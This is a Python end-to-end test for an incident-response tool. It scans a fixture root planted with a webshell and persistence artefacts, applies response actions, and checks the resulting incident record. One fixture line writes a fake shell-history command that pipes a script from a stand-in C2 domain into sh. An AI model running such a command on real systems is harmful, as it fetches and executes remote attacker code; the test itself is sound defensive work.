"""rasoat incident on a real scan and real respond actions: the deep fixture
root (persistence and rootkit artefacts) plus a webshell and C2 traces is
scanned twice into a temporary --db (bundled rules; then a C2 IOC list),
`respond plan/apply` removes the artefacts so the journal beside the db
holds applied actions, then `incident new --scan` opens an incident,
`link` adds the actions and an evidence bundle, `advance` walks every
state including the loop back from recovering to containing (refused moves
exit 2 and name the allowed ones), `note` and `set` fill in the rest, and
`show --format json` is checked field by field against FORMATS.md
"Incidents" and incident.h: IOCs (the planted files' hashes and paths, the
C2 address and domain, the action targets), ATT&CK ids, a timeline in time
order with finding/action/state/note entries, deadlines, state history,
reporter from `incident setup`. `list` flags an incident detected 10 days
ago as overdue."""
import datetime
import hashlib
import json
import os
import re
import shutil
import stat
import subprocess
import sys
import tempfile

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, os.path.join(HERE, "..", "fixtures", "deep"))
import deepfixture  # noqa: E402
from rasoat_e2e import RASOAT, Tree, check, done, findings, jsonl, run  # noqa: E402

checks = 0


def ok(cond, message):
    global checks
    check(cond, message)
    checks += 1


if os.geteuid() != 0:
    print("test_incident: 0 passed, 0 failed, 1 skipped (needs root: respond apply on the fixture root)")
    sys.exit(0)

STATES = ["detected", "analysing", "containing", "eradicating", "recovering", "closed"]
CATEGORIES = {"dos", "phishing", "malware", "intrusion", "defacement", "ransomware", "sabotage",
              "espionage", "combined", "other"}
IOC_TYPES = {"md5", "sha1", "sha256", "ipv4", "ipv6", "domain", "url", "path", "account"}
# incident.h: fields added to FORMATS.md's object, all present
EXTRA = ["reporter", "systems", "description", "handling", "prevention", "status_handled",
         "how_detected", "detection_methods", "notified", "requests", "confidential",
         "response_ended", "initial_report", "handled_by", "created", "updated", "state_history", "drill"]
FORMATS = ["type", "id", "title", "category", "severity", "exercise", "state", "detected", "how_detected",
           "systems", "scans", "findings", "actions", "evidence", "iocs", "attack", "timeline", "deadlines"]


def ts(text):
    return datetime.datetime.strptime(text, "%Y-%m-%dT%H:%M:%SZ").replace(tzinfo=datetime.timezone.utc)


def digests(path):
    with open(path, "rb") as f:
        data = f.read()
    return {n: hashlib.new(n, data).hexdigest() for n in ("md5", "sha1", "sha256")}


with Tree() as t, Tree() as rules, tempfile.TemporaryDirectory(prefix="rasoat-incident-") as state:
    deepfixture.build(t)
    os.makedirs(t.p("var/www/html"), exist_ok=True)
    shutil.copy(os.path.join(HERE, "..", "fixtures", "hunt", "upload_exec.php"), t.p("var/www/html/up.php"))
    shell = digests(t.p("var/www/html/up.php"))
    t.write("etc/hosts", "127.0.0.1 localhost\n198.51.100.7 update.example.org\n")
    t.write("home/alice/.bash_history", "ls\ncurl -s http://cdn.evil-c2.example/x.sh | sh\n")
    rules.write("c2-iocs.txt", "evil-c2.example;test domain\n198.51.100.0/24;test network\n")
    db = os.path.join(state, "rasoat.db")
    conf = os.path.join(state, "incident.conf")
    common = ["--db", db, "--incident-config", conf]

    def incident(*args):
        return run("incident", *args, *common)

    # two scans: the bundled rules, then a C2 IOC list
    code, out, err = run("scan", "--root", t.path, "--only", "hunt,persist,rootkit", "--db", db, "--format",
                         "jsonl", "-q", "--fail-on", "none", "--recent", "0")
    ok(code == 0, f"scan exit {code}: {err[-2000:]}")
    lines = jsonl(out)
    scan1, started1 = lines[-1]["scan"], lines[-1]["started"]
    fs1 = findings(lines)
    ok(any(f["evidence"].get("path") == "/var/www/html/up.php" and f["evidence"].get("sha256") == shell["sha256"]
           for f in fs1), "the webshell is found with its SHA-256")
    code, out, err = run("scan", "--root", t.path, "--only", "hunt", "--rules", rules.path, "--db", db,
                         "--format", "jsonl", "-q", "--fail-on", "none")
    ok(code == 0, f"C2 scan exit {code}: {err[-2000:]}")
    scan2 = jsonl(out)[-1]["scan"]
    ok(any(f["rule"].startswith("ioc-c2:") for f in findings(jsonl(out))), "the C2 scan finds the IOCs")

    # respond: real actions in the journal beside the db
    plan = os.path.join(state, "plan.json")
    code, out, err = run("respond", "plan", "--scan", scan1, "--root", t.path, "--db", db, "-o", plan)
    ok(code == 0, f"plan exit {code}: {err[-2000:]}")
    code, out, err = run("respond", "token", plan, "--format", "json")
    token = json.loads(out)["token"]
    code, out, err = run("respond", "apply", plan, "--token", token, "--root", t.path, "--db", db)
    ok(code == 0, f"apply exit {code}: {out[-2000:]} {err[-2000:]}")
    code, out, err = run("respond", "list", "--db", db, "--format", "jsonl")
    actions = [a for a in jsonl(out) if a["state"] == "applied"]
    ok(len(actions) >= 10, f"applied actions in the journal: {len(actions)}")
    action_ids = [a["id"] for a in actions]
    targets = {a["target"]["path"] for a in actions if "path" in a["target"]}

    # the reporter configuration: on a terminal, asked once (a bad level is asked again) ...
    master, slave = os.openpty()
    answers = ["Org X"] + [""] * 13 + ["7", "2"] + [""] * 7
    p = subprocess.Popen([RASOAT, "incident", "setup", "--incident-config", conf], stdin=slave, stdout=subprocess.PIPE,
                         stderr=slave, text=True)
    os.close(slave)
    os.write(master, ("\n".join(answers) + "\n").encode())
    prompts = b""
    while True:
        try:
            chunk = os.read(master, 4096)
        except OSError:
            break
        if not chunk:
            break
        prompts += chunk
    os.close(master)
    out, _ = p.communicate(timeout=60)
    ok(p.returncode == 0 and out.strip() == conf, f"interactive setup: {p.returncode} {out} {prompts[-500:]}")
    ok(b"Reporting organisation (name)" in prompts and b"1 to 5" in prompts, f"prompts: {prompts[-800:]}")
    with open(conf) as f:
        text = f.read()
    ok("reporter_name = Org X\n" in text and "level = 2\n" in text, f"incident.conf:\n{text}")
    # ... and with --KEY VALUE flags, keeping the other values, mode 0600
    code, out, err = run("incident", "setup", "--incident-config", conf, "--reporter-name", "Công ty A",
                         "--contact-email", "soc@a.example", "--level", "3", "--owner", "Phòng CNTT",
                         "--public-ips", "203.0.113.10, 203.0.113.11", "--report-to", "ir@test.example")
    ok(code == 0 and out.strip() == conf, f"setup: {code} {out} {err}")
    ok(stat.S_IMODE(os.stat(conf).st_mode) == 0o600, "incident.conf is written 0600")
    code, out, err = run("incident", "setup", "--incident-config", conf, "--contact-name", "An")
    with open(conf) as f:
        text = f.read()
    ok(code == 0 and "contact_name = An\n" in text and "reporter_name = Công ty A\n" in text, f"flags keep:\n{text}")
    q = subprocess.run([RASOAT, "incident", "setup", "--incident-config", conf], stdin=subprocess.DEVNULL,
                       capture_output=True, text=True, timeout=60)
    ok(q.returncode == 2 and "not on a terminal" in q.stderr, f"no terminal, no flags: {q.returncode} {q.stderr}")
    code, out, err = run("incident", "setup", "--incident-config", conf, "--level", "9")
    ok(code == 2 and "1 to 5" in err, f"setup refuses level 9: {code} {err}")

    # new: json output is the record
    code, out, err = incident("new", "--scan", scan1, "--scan", scan2[:8], "--format", "json")
    ok(code == 0, f"new exit {code}: {err}")
    rec = json.loads(out)
    iid = rec["id"]
    ok(re.fullmatch(r"INC-\d{4}-\d{4}", iid), f"id {iid}")
    ok(rec["state"] == "detected" and rec["detected"] == started1, f"detected at the first scan: {rec['detected']}")
    code, out, err = incident("new", "--category", "hacking")
    ok(code == 2 and "ransomware" in err, f"a bad category is refused naming the types: {code} {err}")

    # link actions (repeated flag) and an evidence bundle
    bundle = os.path.join(state, "triage.tar.gz")
    with open(bundle, "wb") as f:
        f.write(b"not really a tarball\n")
    link = ["link", iid, "--evidence", bundle]
    for a in action_ids:
        link += ["--action", a]
    code, out, err = incident(*link)
    ok(code == 0, f"link exit {code}: {err}")
    code, out, err = incident("link", iid, "--action", "a-nonexistent")
    ok(code == 2 and "a-nonexistent" in err, f"an unknown action is refused: {code} {err}")

    # advance through every state, with the loop back; refused moves exit 2
    def advance(to, want=0, says=None):
        code, out, err = incident("advance", iid, to)
        ok(code == want, f"advance {to}: exit {code}, wanted {want}: {err}")
        if says:
            ok(says in err, f"advance {to}: message names the allowed states: {err}")

    advance("containing", 2, "allowed next: analysing")
    advance("closed", 2, "allowed next: analysing")
    advance("finished", 2, "detected, analysing, containing")
    advance("analysing")
    advance("analysing", 2, "allowed next: containing")
    code, out, err = incident("note", iid, "owner informed; host isolated")
    ok(code == 0, f"note: {code} {err}")
    for s in ["containing", "eradicating", "recovering"]:
        advance(s)
    advance("analysing", 2, "allowed next: containing or closed")
    advance("containing")
    advance("eradicating")
    advance("recovering")
    advance("closed")
    advance("containing", 2, "none: the incident is closed")

    # the fields only a person knows
    for field, value in [("description", "Webshell and persistence on deep01"), ("system.level", "4"),
                         ("notified", "coordinator"), ("handled_by", "self"), ("status_handled", "yes")]:
        code, out, err = incident("set", iid, field, value)
        ok(code == 0, f"set {field}: {code} {err}")
    code, out, err = incident("set", iid, "handled_by", "nobody")
    ok(code == 2 and "vncert" in err, f"set refuses a bad value: {code} {err}")
    code, out, err = incident("set", iid, "colour", "blue")
    ok(code == 2 and "unknown field" in err, f"set refuses an unknown field: {code} {err}")

    code, out, err = incident("show", iid, "--format", "json")
    ok(code == 0, f"show exit {code}: {err}")
    r = json.loads(out)
    for k in FORMATS + EXTRA:
        ok(k in r, f"field {k} present")
    ok(r["type"] == "incident" and r["id"] == iid, "type and id")
    ok(isinstance(r["title"], str) and r["title"], "a title")
    ok(r["category"] in CATEGORIES and r["category"] == "malware", f"category {r['category']}")
    ok(r["severity"] in {"info", "low", "medium", "high", "critical"}, f"severity {r['severity']}")
    top = max(("info", "low", "medium", "high", "critical").index(f["severity"]) for f in r["findings"])
    ok(r["severity"] == ("info", "low", "medium", "high", "critical")[top], "severity is the highest finding's")
    ok(r["exercise"] is False and r["drill"] is None, "not an exercise")
    ok(r["state"] == "closed", f"state {r['state']}")
    ok(r["how_detected"] == "rasoat scan", f"how_detected {r['how_detected']}")
    ok(r["scans"] == [scan1, scan2], f"scans {r['scans']}")
    ok(all(set(f) >= {"scan", "rule", "path", "severity"} for f in r["findings"]), "finding entries")
    ok({f["scan"] for f in r["findings"]} == {scan1, scan2}, "findings of both scans")
    ok(not any(f.get("module") in ("audit", "vuln") for f in r["findings"]), "no posture findings")
    ok(sorted(r["actions"]) == sorted(action_ids), "the linked actions")
    ok(r["evidence"] == [{"path": bundle, "sha256": hashlib.sha256(b"not really a tarball\n").hexdigest()}],
       f"evidence {r['evidence']}")
    iocs = {(i["type"], i["value"]) for i in r["iocs"]}
    ok(all(i["type"] in IOC_TYPES for i in r["iocs"]), "IOC types from FORMATS.md")
    ok(len(iocs) == len(r["iocs"]), "each IOC once")
    for n in ("md5", "sha1", "sha256"):
        ok((n, shell[n]) in iocs, f"the webshell's {n}")
    ok(("path", "/var/www/html/up.php") in iocs, "the webshell's path")
    ok(("ipv4", "198.51.100.7") in iocs and ("domain", "cdn.evil-c2.example") in iocs, "the C2 address and domain")
    ok(("account", "sshd2") in iocs, "the backdoor account")
    ok(all(("path", p) in iocs for p in targets), f"action targets: {targets - {v for _, v in iocs}}")
    ok("T1505.003" in r["attack"] and "T1071" in r["attack"] and r["attack"] == sorted(set(r["attack"])),
       f"attack {r['attack']}")
    tl = r["timeline"]
    hist = r["state_history"]
    ok({e["kind"] for e in tl} == {"finding", "action", "state", "note"}, "timeline kinds")
    ok([ts(e["time"]) for e in tl] == sorted(ts(e["time"]) for e in tl), "timeline in time order")
    ok(sum(e["kind"] == "finding" for e in tl) == len(r["findings"]), "one entry per finding")
    ok(sum(e["kind"] == "state" for e in tl) == len(hist), "one entry per state change")
    ok(any(e["kind"] == "note" and e["text"] == "owner informed; host isolated" for e in tl), "the note")
    ok([h["state"] for h in hist] == STATES[:5] + ["containing", "eradicating", "recovering", "closed"],
       f"history {hist}")
    ok(all(h["operator"] and h["time"] for h in hist), "who and when")
    d = r["deadlines"]
    ok(ts(d["notify"]) - ts(r["detected"]) == datetime.timedelta(days=5), f"notify {d['notify']}")
    ok(r["response_ended"] == hist[-1]["time"], "the response ended when closed")
    ok(ts(d["final"]) - ts(r["response_ended"]) == datetime.timedelta(days=5), f"final {d['final']}")
    ok(d["notify_overdue"] is False and d["final_overdue"] is False, "nothing overdue yet")
    rep = r["reporter"]
    ok(rep["name"] == "Công ty A" and rep["contact"]["email"] == "soc@a.example"
       and rep["report_to"] == "ir@test.example" and rep["smtp"] is None and rep["phone"] is None,
       f"reporter {rep}")
    sys0 = r["systems"][0]
    ok(sys0["host"] == "deep01" and sys0["level"] == 4 and sys0["owner"] == "Phòng CNTT"
       and sys0["public_ips"] == ["203.0.113.10", "203.0.113.11"], f"system {sys0}")
    ok(r["description"] == "Webshell and persistence on deep01" and r["notified"] == ["coordinator"]
       and r["handled_by"] == "self" and r["status_handled"] is True and r["initial_report"] is None,
       "the set fields")

    # an incident detected 10 days ago is overdue; a fresh exercise is not
    old = (datetime.datetime.now(datetime.timezone.utc) - datetime.timedelta(days=10)).strftime("%Y-%m-%dT%H:%M:%SZ")
    code, out, err = incident("new", "--title", "old one", "--detected", old, "--category", "intrusion")
    ok(code == 0, f"new old: {code} {err}")
    old_id = out.strip()
    code, out, err = incident("new", "--title", "drill", "--exercise", "--format", "json")
    ok(code == 0 and json.loads(out)["exercise"] is True, f"exercise: {code} {err}")
    ids = [iid, old_id, json.loads(out)["id"]]
    ok(len(set(ids)) == 3 and sorted(int(i[-4:]) for i in ids) == [1, 2, 3], f"ids per year: {ids}")
    code, out, err = incident("list")
    ok(code == 0, f"list: {code} {err}")
    rows = {line.split()[0]: line for line in out.splitlines()[1:]}
    ok("OVERDUE" in rows.get(old_id, "") and "OVERDUE" not in rows.get(iid, "x"), f"list flags the old one:\n{out}")
    code, out, err = incident("list", "--format", "jsonl")
    lst = jsonl(out)
    ok([x["id"] for x in lst][0] == old_id and all(x["type"] == "incident" for x in lst), "jsonl, oldest first")
    ok([x["deadlines"]["notify_overdue"] for x in lst if x["id"] == old_id] == [True], "overdue in jsonl")
    code, out, err = incident("show", "INC-1999-0001")
    ok(code == 2 and "INC-1999-0001" in err, f"unknown incident: {code} {err}")

done("test_incident", checks)
